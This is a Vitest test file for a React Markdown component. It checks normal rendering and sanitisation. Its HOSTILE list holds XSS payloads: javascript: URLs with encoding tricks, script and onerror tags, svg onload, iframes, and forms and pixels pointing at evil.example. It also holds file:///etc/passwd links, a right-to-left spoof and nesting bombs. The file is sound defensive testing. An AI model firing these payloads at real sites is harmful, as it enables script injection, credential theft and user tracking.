import { fireEvent, screen, within } from '@testing-library/react'
import { useState } from 'react'
import { beforeEach, describe, expect, test } from 'vitest'
import { renderUi } from '../../test/renderUi'
import { Markdown } from './Markdown'

const plan = { id: '0190a000-0000-7000-8000-000000000001', name: 'plan.png', url: '/files/plan?signed=1' }

/** The text as it stands on the page. */
function shown(text: string, files = [plan]): HTMLElement {
  renderUi(
    <main>
      <Markdown text={text} files={files} />
    </main>,
  )
  return screen.getByRole('main')
}

const addresses = (page: HTMLElement) =>
  [...page.querySelectorAll('[href], [src], [srcset], [action], [xlink\\:href], [data]')].map(
    (each) => each.getAttribute('href') ?? each.getAttribute('src') ?? 'other',
  )

/** A text whose files get a new address. */
function Renewed() {
  const [url, setUrl] = useState(plan.url)
  return (
    <>
      <Markdown text={`![The plan](file:${plan.id})`} files={[{ ...plan, url }]} />
      <button type="button" onClick={() => setUrl('/files/plan?signed=2')}>
        Renew
      </button>
    </>
  )
}

describe('what authors write', () => {
  test('is shown as headings below the page’s own, lists, tables and code', () => {
    const page = shown(
      '# Way out\n\n## By day\n\n- doors\n- stairs\n\n|a|b|\n|-|-|\n|1|2|\n\n```\nrun\n```\n\n- [x] read',
    )
    expect(screen.getByRole('heading', { level: 3, name: 'Way out' })).toBeDefined()
    expect(screen.getByRole('heading', { level: 4, name: 'By day' })).toBeDefined()
    expect(screen.getAllByRole('listitem').map((each) => each.textContent)).toEqual(['doors', 'stairs', '☑ read'])
    expect(within(screen.getByRole('figure', { name: 'Table' })).getByRole('cell', { name: '1' })).toBeDefined()
    expect(screen.getByRole('figure', { name: 'Code' }).tabIndex).toBe(0)
    expect(screen.getByRole('img', { name: 'Ticked' })).toBeDefined()
    expect(page.querySelectorAll('input, h1, h2')).toHaveLength(0)
  })

  test('headings end at the sixth level', () => {
    shown('###### Deep')
    expect(screen.getByRole('heading', { level: 6, name: 'Deep' })).toBeDefined()
  })

  test('a link into the web opens beside this page, and says so', () => {
    shown('[Rules](https://example.org/rules)')
    const link = screen.getByRole('link', { name: 'Rules (opens in a new tab)' })
    expect(link.getAttribute('target')).toBe('_blank')
    expect(link.getAttribute('rel')).toBe('noopener noreferrer')
  })

  test('a link to mail stays in its place', () => {
    shown('[Write](mailto:help@example.org)')
    const link = screen.getByRole('link', { name: 'Write' })
    expect([link.getAttribute('href'), link.getAttribute('target'), link.getAttribute('rel')]).toEqual([
      'mailto:help@example.org',
      null,
      'noopener noreferrer',
    ])
  })

  test('a note at the foot is found from its text, and the text from the note', () => {
    shown('Doors close.[^1]\n\n[^1]: Since May.')
    const there = screen.getByRole('link', { name: '1' })
    const back = screen.getByRole('link', { name: 'Back to the text' })
    expect(document.getElementById(there.getAttribute('href')?.slice(1) ?? '')?.textContent).toMatch(/Since May/)
    expect(document.getElementById(back.getAttribute('href')?.slice(1) ?? '')).toBe(there)
    expect(screen.getByRole('heading', { level: 4, name: 'Notes' })).toBeDefined()
  })

  test('a picture is a file of the text; it stays as it was loaded, and a failed one takes its newest address', async () => {
    const user = renderUi(<Renewed />)
    const picture = screen.getByRole('img', { name: 'The plan' })
    expect(picture.getAttribute('src')).toBe(plan.url)
    expect(picture.getAttribute('referrerpolicy')).toBe('no-referrer')
    await user.click(screen.getByRole('button', { name: 'Renew' }))
    expect(picture.getAttribute('src')).toBe(plan.url)
    fireEvent.error(picture)
    expect(picture.getAttribute('src')).toBe('/files/plan?signed=2')
  })

  test('a picture whose file is not there is its words', () => {
    const page = shown('![The cellar](file:0190a000-0000-7000-8000-00000000ffff) ![](file:nothing)')
    expect(page.querySelector('img')).toBeNull()
    expect(screen.getByText('The cellar')).toBeDefined()
    expect(screen.getByText('Picture that cannot be shown')).toBeDefined()
  })
})

/** Texts that want to run something, load something or lead astray. None may leave an address behind. */
const HOSTILE = [
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a]( javascript:alert(1))',
  '[a](<java\nscript:alert(1)>)',
  '[a](java&#115;cript:alert(1))',
  '[a](&#x6A;avascript&colon;alert(1))',
  '[a](javascript&#58;alert(1))',
  '[a](java%0ascript:alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html;base64,PHNjcmlwdD4=)',
  '[a](blob:https://example.org/1)',
  '[a](file:///etc/passwd)',
  `[a](file:${plan.id})`,
  '[a](ftp://example.org)',
  '[a](tel:+33)',
  '[a](//evil.example/path)',
  '[a](/api/v1/me)',
  '[a](../sessions)',
  '[a](#page)',
  '[a](?view=past)',
  '[a](\\\\evil.example)',
  '[a][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '![a](https://evil.example/pixel.png)',
  '![a](//evil.example/pixel.png)',
  '![a](http://localhost/pixel.png)',
  '![a](/api/v1/me)',
  '![a](data:image/svg+xml;base64,PHN2Zz4=)',
  '![a](javascript:alert(1))',
  '![a](file:../../secret)',
  '![a](file:///etc/passwd)',
  `![a](file:${plan.id}?x=1)`,
  `![a](FILE:${plan.id})`,
  '![a][r]\n\n[r]: https://evil.example/pixel.png "t"',
  '[![a](https://evil.example/x.png)](javascript:alert(1))',
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">a</a></svg>',
  '<math href="javascript:alert(1)">a</math>',
  '<a href="https://evil.example" onclick="alert(1)">a</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example"></object>',
  '<form action="https://evil.example"><input name=password><button>a</button></form>',
  '<style>@import "https://evil.example"</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<details open ontoggle=alert(1)>a</details>',
  '<div style="background:url(https://evil.example/x)">a</div>',
  '<p id="page" class="typed">a</p>',
  '<!-- <img src=x> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php echo "<img src=x>" ?>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '`<img src=x onerror=alert(1)>`',
  '```html onload=alert(1)\n<script>alert(1)</script>\n```',
  '| <img src=x onerror=alert(1)> |\n|-|\n| [a](javascript:alert(1)) |',
  '# <script>alert(1)</script>',
  '- [ ] <img src=x onerror=alert(1)>',
]

test.each(HOSTILE)('nothing is left of %j but words', (text) => {
  const page = shown(text)
  expect(addresses(page)).toEqual([])
  const own = /^(class|dir|aria-label|tabindex|role|align|style)$/
  const elements = [...page.querySelectorAll('*')]
  expect(
    elements.flatMap(({ attributes }) => [...attributes].map(({ name }) => name)).filter((a) => !own.test(a)),
  ).toEqual([])
  expect(
    elements
      .map(({ tagName }) => tagName)
      .filter((tag) =>
        /^(SCRIPT|STYLE|IFRAME|OBJECT|FORM|INPUT|BUTTON|SVG|META|LINK|BASE|DETAILS|MATH|IMG)$/i.test(tag),
      ),
  ).toEqual([])
})

test.each([
  ['https://example.org/a', 'https://example.org/a'],
  ['www.example.org', 'http://www.example.org'],
  ['<https://example.org/?q="onmouseover=alert(1)>', 'https://example.org/?q=%22onmouseover=alert(1)'],
  ['help@example.org', 'mailto:help@example.org'],
  ['[a](https://example.org "a title\\" onclick=x")', 'https://example.org'],
])('%s is a link that runs nothing', (text, address) => {
  const page = shown(text)
  expect(addresses(page)).toEqual([address])
  expect(
    screen
      .getByRole('link')
      .getAttributeNames()
      .filter((name) => name.startsWith('on')),
  ).toEqual([])
})

test('characters that turn the direction of writing stay within their link', () => {
  const page = shown('Go to [\u202Egro.elpmaxe//:sptth\u202C](https://evil.example) now')
  expect(page.querySelector('a > bdi')?.textContent).toBe('\u202Egro.elpmaxe//:sptth\u202C')
  expect(screen.getByText(/^Go to/).closest('[dir=auto]')).not.toBeNull()
})

describe('a text made to keep the browser busy', () => {
  let began = 0
  beforeEach(() => {
    began = performance.now()
  })

  const columns = 2000
  test.each([
    ['quotes', '>'.repeat(100_000)],
    ['quotes with gaps', '> '.repeat(50_000)],
    ['lists', '+ '.repeat(50_000)],
    ['numbered lists', '1. '.repeat(33_000)],
    ['stars', `${'*'.repeat(50_000)}a${'*'.repeat(50_000)}`],
    ['brackets', '['.repeat(100_000)],
    ['pictures', '!['.repeat(50_000)],
    ['strokes', '~~a'.repeat(33_000)],
  ])('of %s is shown as it was typed', (_, text) => {
    expect(shown(text).textContent).toBe(text)
    expect(performance.now() - began).toBeLessThan(3000)
  })

  test('as a table that fills itself up has only the cells that were written', () => {
    const page = shown(`${'|a'.repeat(columns)}\n${'|-'.repeat(columns)}\n${'|b\n'.repeat(1000)}`)
    expect(page.querySelectorAll('td')).toHaveLength(1000)
  })

  test('deeper than anybody nests is flat from there on', () => {
    const page = shown(`${'>'.repeat(199)} at last`)
    expect(page.querySelectorAll('blockquote').length).toBeLessThan(80)
    expect(page.textContent).toMatch(/at last/)
  })
})
